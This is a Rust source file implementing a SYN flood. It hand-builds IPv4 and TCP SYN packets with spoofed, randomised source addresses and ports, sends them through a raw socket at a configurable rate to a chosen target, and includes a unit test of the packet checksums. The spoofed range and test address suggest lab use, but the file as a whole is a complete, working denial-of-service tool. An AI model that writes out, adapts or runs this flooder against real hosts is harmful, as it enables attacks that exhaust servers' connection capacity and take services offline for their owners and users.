//! A SYN flood from spoofed off-link addresses: IPv4 + TCP headers built
//! here and sent through a raw socket with `IP_HDRINCL`.

use socket2::{Domain, Protocol, SockAddr, Socket, Type};
use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::time::{Duration, Instant};

/// Sends `count` SYNs at `rate` a second to `target`; prints what it sent.
pub fn syn_flood(target: SocketAddrV4, count: u64, rate: u64) -> io::Result<()> {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
    socket.set_header_included_v4(true)?;
    let destination = SockAddr::from(target);
    let started = Instant::now();
    let mut random = Random(started.elapsed().as_nanos() as u64 | 0x9e37_79b9_7f4a_7c15);
    let (mut sent, mut failed) = (0u64, 0u64);
    while sent + failed < count {
        let due = (started.elapsed().as_millis() as u64 * rate / 1000 + 1).min(count);
        while sent + failed < due {
            let value = random.next();
            let source = Ipv4Addr::new(198, 18 | ((value >> 24) as u8 & 1), (value >> 8) as u8, value as u8);
            let packet = syn_packet(source, 1024 + (value >> 32) as u16 % 60_000, value as u32, target);
            match socket.send_to(&packet, &destination) {
                Ok(_) => sent += 1,
                Err(_) => failed += 1,
            }
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    println!("syn-flood: {sent} SYNs sent ({failed} failed) to {target} in {:.1} s", started.elapsed().as_secs_f64());
    Ok(())
}

/// xorshift64: reproducible enough to spread addresses and ports.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
}

/// An IPv4 packet holding a TCP SYN with an MSS option.
fn syn_packet(source: Ipv4Addr, source_port: u16, sequence: u32, target: SocketAddrV4) -> [u8; 44] {
    let mut packet = [0u8; 44];
    let (ip, tcp) = packet.split_at_mut(20);
    ip[0] = 0x45; // version 4, 5 words
    ip[2..4].copy_from_slice(&44u16.to_be_bytes());
    ip[6] = 0x40; // don't fragment
    ip[8] = 64; // time to live
    ip[9] = 6; // TCP
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    let checksum = internet_checksum(&[ip]);
    ip[10..12].copy_from_slice(&checksum.to_be_bytes());
    tcp[0..2].copy_from_slice(&source_port.to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&sequence.to_be_bytes());
    tcp[12] = 6 << 4; // 6 words: the header and one option
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64_240u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let mut pseudo = [0u8; 12];
    pseudo[0..4].copy_from_slice(&source.octets());
    pseudo[4..8].copy_from_slice(&target.ip().octets());
    pseudo[9] = 6;
    pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
    let checksum = internet_checksum(&[&pseudo, tcp]);
    tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// RFC 1071's checksum over the concatenation of `parts` (each of even
/// length).
fn internet_checksum(parts: &[&[u8]]) -> u16 {
    let mut sum: u32 = 0;
    for part in parts {
        for pair in part.chunks(2) {
            let word = u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]);
            sum += u32::from(word);
        }
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_syn_carries_valid_checksums() {
        let target = SocketAddrV4::new(Ipv4Addr::new(10, 88, 0, 2), 80);
        let packet = syn_packet(Ipv4Addr::new(198, 18, 1, 2), 4242, 7, target);
        assert_eq!(internet_checksum(&[&packet[..20]]), 0, "IPv4 header");
        let mut pseudo = [0u8; 12];
        pseudo[0..4].copy_from_slice(&[198, 18, 1, 2]);
        pseudo[4..8].copy_from_slice(&[10, 88, 0, 2]);
        pseudo[9] = 6;
        pseudo[10..12].copy_from_slice(&24u16.to_be_bytes());
        assert_eq!(internet_checksum(&[&pseudo, &packet[20..]]), 0, "TCP segment");
        assert_eq!(packet[33], 0x02, "SYN only");
        assert_eq!(u16::from_be_bytes([packet[22], packet[23]]), 80);
    }
}
